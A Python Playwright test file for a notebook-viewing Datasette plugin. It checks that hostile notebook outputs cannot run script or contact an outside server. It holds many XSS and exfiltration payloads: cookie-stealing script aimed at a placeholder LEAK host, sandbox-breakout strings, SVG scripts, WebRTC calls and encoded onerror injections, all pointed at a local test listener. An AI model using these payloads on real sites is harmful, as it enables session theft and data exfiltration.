"""What a notebook shows cannot act: nothing of it runs in our origin, and nothing reaches a server that listens."""

from __future__ import annotations

import base64
import json
import re
import select
import socket
import sqlite3
import time
from collections.abc import Iterator
from contextlib import ExitStack
from contextlib import closing
from contextlib import suppress
from html import escape
from http import HTTPStatus
from io import BytesIO
from pathlib import Path
from typing import Any
from typing import NamedTuple
from urllib.parse import quote

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from playwright.sync_api import Browser
from playwright.sync_api import BrowserContext
from playwright.sync_api import Dialog
from playwright.sync_api import Error
from playwright.sync_api import Page

from scrapdb.database import Database
from scrapdb.datasette.routes import PAGES
from tests.datasette.server import Listener
from tests.datasette.server import get
from tests.datasette.server import listening
from tests.datasette.server import served
from tests.notebook_builder import code
from tests.notebook_builder import display
from tests.notebook_builder import notebook
from tests.notebook_builder import scrap
from tests.notebook_builder import write

# LEAK is the address of the server that listens. Each says by its path what has reached it.
_SCRIPT = """
document.title = 'owned'; try { parent.document.title = 'owned' } catch (e) {}
try { top.document.title = 'owned' } catch (e) {}
try { new Image().src = 'LEAK/cookie?' + document.cookie } catch (e) {} fetch('LEAK/fetch'); alert('owned');
navigator.sendBeacon('LEAK/beacon'); new WebSocket('LEAK/socket'.replace('http', 'ws')); window.open('LEAK/open');
setTimeout(() => { location = 'LEAK/location' }, 50)"""
_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">{}</svg>'
)
# Of each of these, at least one request reaches the server if it is shown as it stands.
ACTING = {
    "script": f"<script>{_SCRIPT}</script>",
    "handler": f'<img src="x:" onerror="{_SCRIPT}">',
    "svg-handler": f'<svg onload="{_SCRIPT}"></svg>',
    "picture": '<img src="LEAK/img"><img srcset="LEAK/srcset 1x"><picture><source srcset="LEAK/source"><img></picture>',
    "media": '<video src="LEAK/video" poster="LEAK/poster" autoplay></video><audio src="LEAK/audio"></audio>',
    "stylesheet": '<link rel="stylesheet" href="LEAK/css">',
    "import": '<style>@import "LEAK/import";</style>',
    "background": '<body background="LEAK/body"><p style="background: url(LEAK/style)">x</p>',
    "font": "<style>@font-face { font-family: f; src: url(LEAK/font) } p { font-family: f }</style><p>x</p>",
    "refresh": '<meta http-equiv="refresh" content="0;url=LEAK/refresh">',
    "policy-first": '<meta http-equiv="Content-Security-Policy" content="default-src * data:"><img src="LEAK/allowed">',
    "preload": '<link rel="preload" as="image" href="LEAK/preload"><link rel="modulepreload" href="LEAK/module">',
    "object": '<object data="LEAK/object"></object><embed src="LEAK/embed">',
    "frame": '<iframe src="LEAK/frame"></iframe>',
    "frameset": '</body><frameset><frame src="LEAK/frameset"></frameset>',
    "base": '<base href="LEAK/"><img src="based">',
    "breaks-out-of-srcdoc": f'"></iframe><script>{_SCRIPT}</script><img src="LEAK/out"><iframe srcdoc="',
    "breaks-out-of-entities": f"&quot;&gt;</iframe><script>{_SCRIPT}</script>&lt;img src=LEAK/entity&gt;",
    "closes-everything": f"--></style></script></title></textarea></iframe></template><script>{_SCRIPT}</script>",
    "nested-srcdoc": """<iframe srcdoc='<img src="LEAK/nested"><script>fetch("LEAK/inner")</script>'></iframe>""",
    "preconnect": '<link rel="preconnect" href="LEAK"><link rel="prefetch" href="LEAK/prefetch">',
    "svg-script": _SVG.format(f"<script>{_SCRIPT}</script>"),
    "svg-image": _SVG.format('<image href="LEAK/svg-image"/><image xlink:href="LEAK/svg-xlink"/>'),
    "svg-style": _SVG.format('<style>@import "LEAK/svg-import"; rect { fill: url(LEAK/svg-fill) }</style><rect/>'),
    "svg-foreign": _SVG.format(
        '<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="LEAK/foreign"/></foreignObject>'
    ),
}
# These wait for a click.
WAITING = {
    "link": '<a href="LEAK/link">click</a>',
    "link-top": '<a href="LEAK/link-top" target="_top">click</a>',
    "link-blank": '<a href="LEAK/link-blank" target="_blank" ping="LEAK/ping">click</a>',
    "link-script": f'<a href="javascript:{_SCRIPT}">click</a>',
    "form": '<form action="LEAK/form"><button>click</button></form>',
    "form-top": '<form action="LEAK/form-top" method="post" target="_top"><button>click</button></form>',
}
# One of each kind: what runs, what is loaded, what leads elsewhere by itself, what is framed, and what is clicked.
SOME = ("script", "picture", "font", "refresh", "frame", "link-top", "link-blank", "form-top")
OTHERS = tuple(name for name in ACTING | WAITING if name not in SOME)
# Scripts that call a server at PORT.
_RELAY = "{iceServers: [{urls: 'turn:127.0.0.1:PORT?transport=tcp', username: 'secret', credential: 'x'}]}"
_CALL = f"""const call = new RTCPeerConnection({_RELAY}); call.createDataChannel('x');
call.createOffer().then((offer) => call.setLocalDescription(offer))"""
CALLING = {
    "webrtc": f"<script>{_CALL}</script>",
    "webrtc of a frame inside": f"""<body><iframe srcdoc="<script>{_CALL}</script>"></iframe><script></script>""",
    "frame": """<body><script>const frame = document.createElement('iframe'); frame.src = 'http://127.0.0.1:PORT/';
document.body.append(frame)</script>""",
}
_PATIENCE = 100  # tenths of a second
_AT = (20, 18)  # pixels from the corner: within the first link or button of a document
OTHER_TYPES = {
    "text/markdown": "![x](LEAK/markdown) <img src='LEAK/markdown-html'>",
    "application/javascript": _SCRIPT,
    "text/latex": r"\href{LEAK/latex}{x}<img src='LEAK/latex-html'>",
    "text/plain": "<img src='LEAK/plain'>",
    "image/png": "PGltZyBzcmM9J3gnPg==",
    "application/xhtml+xml": "<html xmlns='http://www.w3.org/1999/xhtml'><script>document.title='owned'</script></html>",
}
_EVIL = "%3Cimg+src%3Dx+onerror%3D%22document.title%3D%27owned%27%22%3E"  # <img src=x onerror="document.title='owned'">
OPENED = (
    "overview",
    "notebook?path=one.ipynb&scripts=script",
    f"notebook?path={_EVIL}",
    "compare?path=one.ipynb&path=two.ipynb&all=1",
    f"compare?path={_EVIL}&path=one.ipynb",
    "problems",
    f"problems?kind={_EVIL}",
    "frame?path=one.ipynb&name=frame",
    f"frame?name={_EVIL}&path={_EVIL}",
    *(
        f"gallery?scrap={name}"
        for name in ("script", "svg-script", "svg-foreign", "link-script", "breaks-out-of-srcdoc")
    ),
    f"gallery?scrap={_EVIL}&where={_EVIL}",
    f"plot?x={_EVIL}&y={_EVIL}",
    "groups?by=nb.path&columns=count()",
    f"groups?by={_EVIL}&columns={_EVIL}&where={_EVIL}&having={_EVIL}&sort={_EVIL}",
    "batch",
    f"batch?id={_EVIL}&state={_EVIL}",
    "reports",
    f"reports?state={_EVIL}&bundle={_EVIL}&language={_EVIL}&batch={_EVIL}",
    "report?id=script",
    f"report?id={_EVIL}",
    f"report?path={_EVIL}",
)


FILES = (
    "frame.parquet?path=one.ipynb&name=frame",
    "frame.csv?path=one.ipynb&name=frame",
    "frame.svg?path=one.ipynb&name=frame",
    "plot.svg?x=nb.seconds",
    "plot.csv?x=nb.seconds",
    "fields.json?start=",
    f"check.json?_scrap={_EVIL}",
    *(f"report/file?id=script&name={name}" for name in ("report.html", "report.pdf", "output.json", "log.txt")),
    f"report/file?id=script&name={_EVIL}",
)


class Site(NamedTuple):
    """A Datasette on a store of hostile notebooks, and the server that listens."""

    address: str
    store: Path
    listener: Listener


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    directory = tmp_path_factory.mktemp("hostile")
    with listening() as listener:
        everything = {**ACTING, **WAITING}
        shown = [
            display(
                name,
                {
                    "image/svg+xml" if name.startswith("svg-") and "xmlns" in text else "text/html": _aimed(
                        text, listener.address
                    )
                },
            )
            for name, text in everything.items()
        ]
        shown += [display(f"as {mime}", {mime: _aimed(text, listener.address)}) for mime, text in OTHER_TYPES.items()]
        values = [scrap(f"text of {name}", _aimed(text, listener.address), "text") for name, text in everything.items()]
        values += [
            scrap(_aimed(text, listener.address), {_aimed(text, listener.address): 1}) for text in ACTING.values()
        ]
        values.append(_hostile_frame(listener.address))
        for stem in ("one", "two", "<img src=x: onerror=alert(1)>"):
            write(directory / f"{stem}.ipynb", notebook(code("1", *shown, *values)))
        for name, text in everything.items():
            _write_report(directory / "reports" / name, _aimed(text, listener.address))
        path = directory / "scraps.db"
        Database(path).index(directory)
        with served("datasette", path) as address:
            yield Site(address, path, listener)


@pytest.fixture
def context(browser: Browser, site: Site) -> Iterator[BrowserContext]:
    opened = browser.new_context()
    opened.add_cookies([{"name": "secret", "value": "42", "url": site.address}])
    site.listener.requests.clear()
    yield opened
    opened.close()


def test_the_server_hears_what_is_shown_as_it_stands(browser: Browser) -> None:
    context = browser.new_context()
    with listening() as listener:
        for name, text in (ACTING | WAITING).items():
            listener.documents[f"/{name}"] = _aimed(text, f"{listener.address}/from/{name}").replace(
                "alert('owned');", ""
            )
            page = context.new_page()
            page.goto(f"{listener.address}/{name}", wait_until="commit" if name in ACTING else "load")
            if name in WAITING:
                page.mouse.click(*_AT)
        for _ in range(_PATIENCE):
            heard = {path.split("/")[2] for path in listener.requests if path.startswith("/from/")}
            if heard == {*ACTING, *WAITING}:
                break
            time.sleep(0.1)
    assert {*ACTING, *WAITING} - heard == set()


def test_nothing_acts_on_tables(context: BrowserContext, site: Site) -> None:
    tables = (f"/scraps/{name}" for name in ("runs", "names", "scraps", "largest_scraps"))
    assert _acted(context, site, "/", "/scraps", *tables) == []


def test_every_page_is_opened() -> None:
    pages = {address for address in PAGES if re.fullmatch(r"\w+", address)}
    assert pages == {path.partition("?")[0] for path in OPENED}


def test_nothing_acts_on_pages(context: BrowserContext, site: Site) -> None:
    assert _acted(context, site, *(f"/-/scrapdb/scraps/{path}" for path in OPENED)) == []


@pytest.mark.parametrize("path", FILES)
def test_a_file_is_no_page(path: str, site: Site) -> None:
    status, headers, body = get(f"{site.address}/-/scrapdb/scraps/{path}")
    if status == HTTPStatus.OK:
        assert "html" not in headers["Content-Type"]
        if "svg" in headers["Content-Type"]:
            assert "sandbox" in headers["Content-Security-Policy"]
            assert "<script" not in body
    else:
        assert "<img src=x" not in body  # the page that says what is wrong


def test_nothing_acts_on_the_page_of_a_notebook(context: BrowserContext, site: Site) -> None:
    path = f"{site.address}/-/scrapdb/scraps/notebook?path=one.ipynb"
    page = context.new_page()
    page.goto(path)
    assert page.locator("iframe").count() > len(ACTING) // 2  # there is something to be shown
    page.close()
    assert _acted(context, site, "/-/scrapdb/scraps/notebook?path=one.ipynb") == []


def test_scripts_that_run_reach_nobody(browser: Browser, tmp_path: Path) -> None:
    with ExitStack() as stack:
        called = [stack.enter_context(socket.create_server(("127.0.0.1", 0))) for _ in CALLING]
        ports = [str(each.getsockname()[1]) for each in called]
        documents = [text.replace("PORT", port) for text, port in zip(CALLING.values(), ports, strict=True)]
        shown = [display(name, {"text/html": text}) for name, text in zip(CALLING, documents, strict=True)]
        write(tmp_path / "calling.ipynb", notebook(code("1", *shown)))
        Database(tmp_path / "scraps.db").index(tmp_path, workers=1)
        address = stack.enter_context(served("datasette", tmp_path / "scraps.db"))
        for name in CALLING:
            # It may never load: Chromium ends a page whose inner frame tries WebRTC under this policy.
            asked = f"{address}/-/scrapdb/scraps/notebook?path=calling.ipynb&scripts={quote(name)}"
            stack.enter_context(browser.new_page()).goto(asked, wait_until="commit")
        assert select.select(called, [], [], 3)[0] == []
        listener = stack.enter_context(listening())
        for each, document in zip(called, documents, strict=True):
            listener.documents["/"] = document
            stack.enter_context(browser.new_page()).goto(f"{listener.address}/", wait_until="commit")
            assert select.select([each], [], [], 3)[0] == [each]


def test_a_page_of_somebody_else_cannot_have_scripts_run(context: BrowserContext, site: Site) -> None:
    asked = f"{site.address}/-/scrapdb/scraps/notebook?path=one.ipynb&scripts=script"
    site.listener.documents["/link"] = f'<a href="{escape(asked)}">click</a>'
    page = context.new_page()
    page.goto(f"{site.listener.address}/link")
    page.get_by_text("click").click()
    page.wait_for_url(asked)
    assert page.locator("iframe[sandbox='']").count() > 0
    assert page.locator("iframe[sandbox='allow-scripts']").count() == 0
    page.goto(asked)  # as a person who types it
    assert page.locator("iframe[sandbox='allow-scripts']").count() == 1


def test_a_click_on_an_svg_that_is_opened_leads_nowhere(context: BrowserContext, site: Site, tmp_path: Path) -> None:
    link = f'<a href="{site.listener.address}/svg-link"><rect width="99" height="99"/></a>'
    svg = _SVG.format(link).replace('"9"', '"99"')
    write(tmp_path / "linked.ipynb", notebook(code("1", display("linked", {"image/svg+xml": svg}))))
    Database(tmp_path / "scraps.db").index(tmp_path, workers=1)
    with served("datasette", tmp_path / "scraps.db") as address:
        page = context.new_page()
        page.goto(f"{address}/-/scrapdb/scraps/notebook?path=linked.ipynb")
        page.locator("img.scrapdb-picture").click()
        page.wait_for_url("**/display/*")
        opened = page.url
        page.mouse.click(40, 40)
        page.wait_for_timeout(300)
        assert (page.url, site.listener.requests) == (opened, [])


def test_nothing_acts_when_a_display_is_opened(context: BrowserContext, site: Site) -> None:
    with closing(sqlite3.connect(site.store)) as connection:
        hashes = [digest for (digest,) in connection.execute("SELECT DISTINCT hash FROM displays")]
    assert len(hashes) >= len(ACTING) + len(WAITING)
    assert _acted(context, site, *(f"/-/scrapdb/scraps/display/{digest}" for digest in hashes)) == []


@pytest.mark.parametrize("names", [SOME, OTHERS], ids=["some", "others"])
def test_nothing_acts_in_the_frame_of_a_report(names: tuple[str, ...], context: BrowserContext, site: Site) -> None:
    """On the page of a report, and where it alone is opened, by whatever address."""
    for address in ("report?id=", "report.html?id="):
        assert _acted(context, site, *(f"/-/scrapdb/scraps/{address}{name}" for name in names)) == []


@pytest.mark.parametrize("names", [SOME, OTHERS], ids=["some", "others"])
def test_nothing_acts_where_a_browser_does_not_say_for_what_it_asks(
    names: tuple[str, ...], context: BrowserContext, site: Site
) -> None:
    context.route("**/report.html?*", lambda route: route.fulfill(response=_unframed(context, route.request.url)))
    paths = [f"/-/scrapdb/scraps/report.html?id={name}" for name in names if name in ACTING]
    assert _acted(context, site, *paths) == []


def test_a_link_in_a_report_leads_not_even_to_another_page_of_ours_with_power(
    context: BrowserContext, site: Site
) -> None:
    asked = f"{site.address}/-/scrapdb/scraps/notebook?path=one.ipynb&scripts=script"
    report = site.store.parent / "reports" / "link" / "report.html"
    before = report.read_bytes()
    report.write_text(f'<a href="{escape(asked)}">click</a><a href="{escape(asked)}" target="_top">top</a>')
    try:
        page = context.new_page()
        page.goto(f"{site.address}/-/scrapdb/scraps/report?id=link")
        for word in ("top", "click"):
            page.frame_locator("iframe").get_by_text(word, exact=True).click()
            page.wait_for_timeout(500)
        assert page.url == f"{site.address}/-/scrapdb/scraps/report?id=link"
        assert (page.title() != "owned", site.listener.requests) == (True, [])
    finally:
        report.write_bytes(before)


def _unframed(context: BrowserContext, address: str) -> Any:
    return context.request.get(address, headers={"Sec-Fetch-Dest": ""})


def _write_report(directory: Path, document: str) -> None:
    """Write a report of which everything is hostile."""
    told: dict[str, Any] = dict.fromkeys(("title", "bundle", "bundle_version", "language", "reason"), document)
    told |= {"id": directory.name, "state": "error", "pushed": [document, "javascript:alert(1)"]}
    record: dict[str, Any] = {
        "state": "failed",
        "reason": document,
        "wall": document,
        "host": document,
        "warnings": [document],
    }
    write(directory / "report.ipynb", notebook(code("1"), scrapdb={"report": told, "run": record}))
    trace = {"name": document, "value": document, "source": document, "traceback": document}
    (directory / "report.json").write_text(json.dumps({"trace": trace}))
    for name in ("report.html", "report.pdf", "output.json", "log.txt"):
        (directory / name).write_text(document)


def _acted(context: BrowserContext, site: Site, *paths: str) -> list[str]:
    """Open pages, click whatever can be clicked in their frames, wait, and tell what has happened that should not."""
    acted: list[str] = []
    site.listener.requests.clear()
    pages = [_open(context, f"{site.address}{path}", acted) for path in paths]
    for page in pages:
        page.bring_to_front()  # since one that is not seen takes its time with clicks
        _click(page)
    pages[-1].wait_for_timeout(500)
    for page, path in zip(pages, paths, strict=True):
        address = page.url.partition("?_col=")[0]  # the table of runs lets its own address tell the columns
        if address not in {f"{site.address}{path}", "about:blank"}:  # blank where the answer is a download
            acted.append(f"{path} led to {page.url}")
        if page.title() == "owned":
            acted.append(f"{path} changed the title")
        page.close()
    if [cookie.get("value") for cookie in context.cookies() if cookie.get("name") == "secret"] != ["42"]:
        acted.append("changed the cookie")
    return acted + site.listener.requests


def _open(context: BrowserContext, address: str, acted: list[str]) -> Page:
    page = context.new_page()
    page.on("dialog", lambda dialog: _dismiss(dialog, acted))
    page.on("popup", lambda popup: acted.append(f"popup {popup.url}"))
    with suppress(Error):  # a download is no page
        page.goto(address, wait_until="load")
    return page


def _dismiss(dialog: Dialog, acted: list[str]) -> None:
    acted.append(f"dialog {dialog.message}")
    dialog.dismiss()


def _click(page: Page) -> None:
    """Click where the documents of WAITING have what they wait with."""
    page.eval_on_selector_all("details", "all => all.forEach(details => { details.open = true })")
    for frame in page.query_selector_all("iframe"):
        frame.scroll_into_view_if_needed()
        box = frame.bounding_box()
        if box:
            page.mouse.click(box["x"] + _AT[0], box["y"] + _AT[1])


def _hostile_frame(address: str) -> dict[str, Any]:
    texts = [_aimed(text, address) for text in ACTING.values()]
    columns = {"picture": texts, "stylesheet": range(len(texts))}
    file = BytesIO()
    pq.write_table(pa.table({_aimed(ACTING[name], address): column for name, column in columns.items()}), file)
    return scrap("frame", base64.b64encode(file.getvalue()).decode(), "pandas")


def _aimed(text: str, address: str) -> str:
    return text.replace("LEAK", address)
